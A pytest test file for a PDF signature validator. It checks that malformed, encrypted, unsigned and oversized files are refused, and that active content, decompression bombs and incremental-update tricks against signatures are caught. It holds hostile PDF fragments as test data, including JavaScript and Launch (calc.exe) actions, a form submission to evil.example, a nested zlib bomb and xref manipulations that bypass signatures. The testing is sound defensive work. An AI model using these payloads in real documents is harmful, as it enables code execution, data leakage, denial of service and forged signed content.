"""What the bytes alone give away: not a PDF, not whole, not plain, not of this world."""

import re
import time
import zlib

import pytest

from shared.signatures.judge import judge
from shared.signatures.verdict import Disposition, Indication, Reason
from tests import signed_pdfs as pdfs
from tests.shared.signatures.attacks import body_of, incremental_update, last_table
from tests.signed_pdfs import How, a_paper, judged, organisation, person, signed

SECONDS = 5


@pytest.fixture(scope="module")
def one() -> bytes:
    return signed(a_paper(), How(person()))


def reasons(file: bytes) -> tuple[Reason, ...]:
    verdict = judged(file)
    assert verdict.disposition is Disposition.REFUSE
    return verdict.reasons


def test_an_empty_file_is_refused():
    assert reasons(b"") == (Reason.EMPTY,)


@pytest.mark.parametrize("file", [b"PK\x03\x04", b"\x89PNG\r\n", b"xin chao", b"%PDF-1.9\n%%EOF", b"%PDF-3.0\n%%EOF"])
def test_what_is_not_a_pdf_is_refused(file):
    assert reasons(file) == (Reason.NOT_PDF,)


@pytest.mark.parametrize("before", [b"\n", b"\xef\xbb\xbf", b"GIF89a;", b"<html>"])
def test_nothing_may_come_before_the_header(one, before):
    assert reasons(before + one) == (Reason.NOT_PDF,)


@pytest.mark.parametrize("after", [b"x", b"\x00", b" ", b"PK\x05\x06", b"\n\n\n\n\n", b"\n<script>"])
def test_nothing_may_come_after_the_end(one, after):
    assert reasons(one + after) == (Reason.TRAILING_DATA,)


@pytest.mark.parametrize("part", [0.1, 0.5, 0.9, 0.99])
def test_a_file_cut_short_is_refused(one, part):
    assert reasons(one[: int(len(one) * part)])[0] in {Reason.TRUNCATED, Reason.TRAILING_DATA, Reason.MALFORMED}


def test_an_unsigned_paper_is_refused():
    assert reasons(a_paper()) == (Reason.UNSIGNED,)


def test_a_file_too_large_is_refused(one):
    assert reasons(one[:-6] + bytes(40 * 1024 * 1024) + one[-6:]) == (Reason.TOO_COMPLEX,)


def test_an_encrypted_file_is_refused():
    assert reasons(pdfs.an_encrypted_paper()) == (Reason.ENCRYPTED,)


def test_an_encrypted_file_is_refused_whatever_its_filter():
    file = a_paper().replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Encrypt<</Filter/Nobody>>>>")
    assert reasons(file) == (Reason.ENCRYPTED,)


@pytest.mark.parametrize("name", [b"/By#74eRange", b"/#54ype", b"/Cont#65nts"])
def test_structural_names_in_disguise_are_refused(name):
    assert Reason.MALFORMED in reasons(signed(a_paper(catalogue=name + b" 1"), How(person())))


# --- active content --------------------------------------------------------------------------------------------------

ACTIONS = [
    b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
    b"/OpenAction<</S/Java#53cript/JS(app.alert(1))>>",
    b"/OpenAction<</S /Launch/F(calc.exe)>>",
    b"/AA<</WC<</S/SubmitForm/F(https://evil.example)>>>>",
    b"/OpenAction<</S/ImportData/F(x)>>",
    b"/OpenAction<</S/GoToE/D[0]>>",
    b"/OpenAction<</S/GoToR/F(x)/D[0]>>",
    b"/Names<</EmbeddedFiles<</Names[]>>>>",
    b"/Names<</JavaScript<</Names[]>>>>",
    b"/AF[<</Type/Filespec/EF<</F 3 0 R>>>>]",
    b"/AF[<</Type/Filespec/EF %x\n 3 0 R>>]",
    b"/AcroForm<</Fields[]/XFA 3 0 R>>",
    b"/X<</Subtype/RichMedia>>",
    b"/X:////S/JavaScript",
]


@pytest.mark.parametrize("action", ACTIONS)
def test_active_content_is_refused_even_when_signed(action):
    assert Reason.ACTIVE_CONTENT in reasons(signed(a_paper(catalogue=action), How(person())))


def test_active_content_is_found_inside_object_streams():
    file = signed(pdfs.a_compressed_paper(pages=b"/AA<</O<</S/JavaScript/JS(1)>>>>"), How(person()))
    assert b"JavaScript" not in file
    assert Reason.ACTIVE_CONTENT in reasons(file)


def test_active_content_is_found_in_disguise_and_where_nothing_reaches():
    file = signed(incremental_update(a_paper(), {90: b"<</S/Java#53cript/JS(1)>>"}), How(person()))
    assert b"JavaScript" not in file
    assert Reason.ACTIVE_CONTENT in reasons(file)


def test_active_content_is_found_in_what_a_later_revision_replaced():
    before = a_paper(catalogue=ACTIONS[0])
    after = incremental_update(before, {1: b"<</Type/Catalog/Pages 2 0 R>>"})
    assert Reason.ACTIVE_CONTENT in reasons(signed(after, How(person())))


# --- bombs -----------------------------------------------------------------------------------------------------------


def stream(data: bytes, entries: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


def an_object_stream_bomb() -> bytes:
    data = zlib.compress(zlib.compress(bytes(200_000_000), 9), 9)
    entries = b"/Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]"
    objects = [b"<</Type/Catalog/Pages 9 0 R>>", stream(data, entries)]
    return pdfs.with_stream_table(objects, {9: (2, 2, 0)})


def a_deep_array() -> bytes:
    return a_paper(catalogue=b"/X" + b"[" * 100_000 + b"]" * 100_000)


def a_table_that_points_to_itself() -> bytes:
    file = a_paper()
    start = int(file.split()[-2])
    return file.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % start)


def a_page_tree_that_is_a_ring() -> bytes:
    return signed(a_paper(), How(person())).replace(b"/Kids[4 0 R]", b"/Kids[2 0 R]")


def a_promise_of_a_billion_entries() -> bytes:
    return pdfs.with_stream_table([b"<</Type/Catalog/Pages 2 0 R>>"], {}, index=b"/Index[0 1000000000]")


def a_disguised_promise_of_a_billion_entries() -> bytes:
    return pdfs.with_stream_table([b"<</Type/Catalog/Pages 2 0 R>>"], {}, index=b"/#49ndex[0 1000000000]")


def a_promise_hidden_behind_a_negative_width() -> bytes:
    file = pdfs.with_stream_table([b"<</Type/Catalog/Pages 2 0 R>>"], {}, index=b"/Index[0 90000]")
    return file.replace(b"/Index[0 90000]/W[1 4 2]", b"/Index[0 90000]/W[-1 0 0]")


def a_form_that_contains_itself() -> bytes:
    return a_paper(catalogue=b"/AcroForm<</Fields[1 0 R]>>/FT/Sig/T(x)/Kids[1 0 R]")


@pytest.mark.parametrize(
    "bomb",
    [
        an_object_stream_bomb,
        a_deep_array,
        a_table_that_points_to_itself,
        a_page_tree_that_is_a_ring,
        a_promise_of_a_billion_entries,
        a_disguised_promise_of_a_billion_entries,
        a_promise_hidden_behind_a_negative_width,
        a_form_that_contains_itself,
    ],
)
def test_bombs_and_rings_end_within_bounds(bomb):
    file = bomb()
    start = time.thread_time()
    reasons(file)
    assert time.thread_time() - start < SECONDS


def test_endless_revisions_are_refused(one):
    file = one
    for _ in range(70):
        file = incremental_update(file, {}, freed={0: 65535})
    assert reasons(file) == (Reason.TOO_COMPLEX,)


def test_a_judgement_that_takes_too_long_ends_without_a_verdict(one):
    verdict = judged(one, policy=pdfs.IN_NO_TIME)
    assert verdict.reasons == (Reason.TOO_COMPLEX,)
    assert verdict.sub_indication == "POLICY_PROCESSING_ERROR"


# --- nothing before the first table -----------------------------------------------------------------------------------


def scanned() -> bytes:
    """As scanners write it: the only table says that the one before it is at 0, where no table can be."""
    return a_paper().replace(b"/Root 1 0 R>>", b"/Prev 0/Root 1 0 R>>")


@pytest.mark.parametrize(
    "paper",
    [
        scanned(),
        scanned().replace(b"xref\n0 6\n0000000000 65535 f \n", b"xref\n1 5\n"),
        pdfs.a_compressed_paper().replace(b"/Root 1 0 R", b"/Prev 0/Root 1 0 R"),
        a_paper().replace(b"xref\n0 6\n", b"xref\n1 6\n"),
    ],
    ids=["nothing before", "without zero", "a stream", "one too high"],
)
def test_a_scan_whose_table_is_slightly_wrong_is_believed(paper):
    again = How(organisation(), field="Seal", box=pdfs.OTHER_BOX)
    for file in (signed(paper, How(person())), signed(paper, How(person()), again)):
        assert judged(file).accepted


SCRIPT = zlib.compress(b"90 0 <</S/JavaScript/JS(app.alert(1))>>")
HIDDEN = [
    b"90 0 obj\n<</Type/Page>>\nendobj\n",
    b"90 0 obj\n<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n"
    % (len(SCRIPT), SCRIPT),
]


@pytest.mark.parametrize("hidden", HIDDEN)
@pytest.mark.parametrize(
    ("old", "new"), [(b"/Root 1 0 R>>", b"/Prev 0/Root 1 0 R>>"), (b"xref\n0 6\n", b"xref\n1 6\n")], ids=["prev", "one"]
)
def test_a_table_that_is_slightly_wrong_leaves_nothing_out(hidden, old, new):
    """A viewer that does not understand it looks for objects by itself, and finds more than was judged.

    The library as published takes the second for a table of other objects, and believes what it does not look for.
    """
    body, table = a_paper().split(b"xref\n", 1)
    paper = body + hidden + b"xref\n" + table.replace(b"%d" % len(body), b"%d" % len(body + hidden))
    assert judged(signed(paper, How(person()))).accepted
    file = signed(paper.replace(old, new), How(person()))
    verdict = judge(file, store=pdfs.store(), revocation=pdfs.revocation(), at=pdfs.NOW)
    assert verdict.reasons == (Reason.MALFORMED,)


def cut_off(file: bytes, objects: dict[int, bytes], prev: bytes = b"/Prev 0") -> bytes:
    """A revision that lists every object anew, with those changes, and says that nothing came before it."""
    places = {int(each[1]): each.start() for each in re.finditer(rb"(?<![0-9])(\d+) 0 obj", file)}
    out = bytearray(file)
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % (number, places[number]) for number in sorted(places))
    out += b"xref\n0 1\n0000000000 65535 f \n" + rows
    trailer = b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n"
    return bytes(out + trailer % (max(places) + 1, prev, start))


TEXT = b"<</Length 49>>\nstream\nBT /F1 18 Tf 72 760 Td (Giay khac, trang 1) Tj ET\nendstream"
PREVIOUS = [b"/Prev 0", b"/Prev -0", b"/Prev 00", b"/Prev 0 0 R", b"/Prev 0.0", b"/Prev null", b"", b"/Prev (0)"]


@pytest.mark.parametrize("prev", PREVIOUS)
@pytest.mark.parametrize("changes", [{}, {5: TEXT}], ids=["", "text"])
def test_what_was_signed_is_not_cut_off_from_what_came_before(one, changes, prev):
    for signed_paper in (one, signed(scanned(), How(person()))):
        cut = cut_off(signed_paper, changes, prev)
        assert not judged(cut).accepted
        if prev in PREVIOUS[:3]:
            later = signed(cut, How(organisation(), field="Seal", box=pdfs.OTHER_BOX))
            verdict = judged(later)
            assert verdict.indication is Indication.TOTAL_FAILED
            assert not judged(signed(cut_off(later, changes, prev), How(organisation(), field="S3", box=None))).accepted


NUMBER_ZERO = b"0000000000 65535 f \n"


def misnumbered(file: bytes, objects: dict[int, bytes], *, first: int, free: bytes) -> bytes:
    """A revision whose table begins with that free entry, numbered so."""
    out, rows = bytearray(file), free
    for number, body in objects.items():
        rows += b"%010d 00000 n \n" % len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n%d %d\n%s" % (first, len(objects) + 1, rows)
    trailer = b"trailer\n<</Size 99/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return bytes(out + trailer % (last_table(file), start))


@pytest.mark.parametrize("first", [0, 1, 2, 3])
@pytest.mark.parametrize("free", [NUMBER_ZERO, b"0000000000 00001 f \n", b"0000000001 65535 f \n"])
@pytest.mark.parametrize("numbers", [[1, 2, 3, 4, 5], [2, 3, 4, 5, 6], [4, 5], [5]])
def test_what_is_numbered_from_one_too_high_later_is_no_way_around_a_signature(one, numbers, free, first):
    objects = {number: TEXT if number == 5 else body_of(one, number) for number in numbers}
    changed = misnumbered(one, objects, first=first, free=free)
    assert not judged(changed).accepted
    try:
        again = signed(changed, How(organisation(), field="Seal", box=pdfs.OTHER_BOX))
    except Exception:  # noqa: BLE001  nobody can sign what nobody can read
        return
    assert not judged(again).accepted
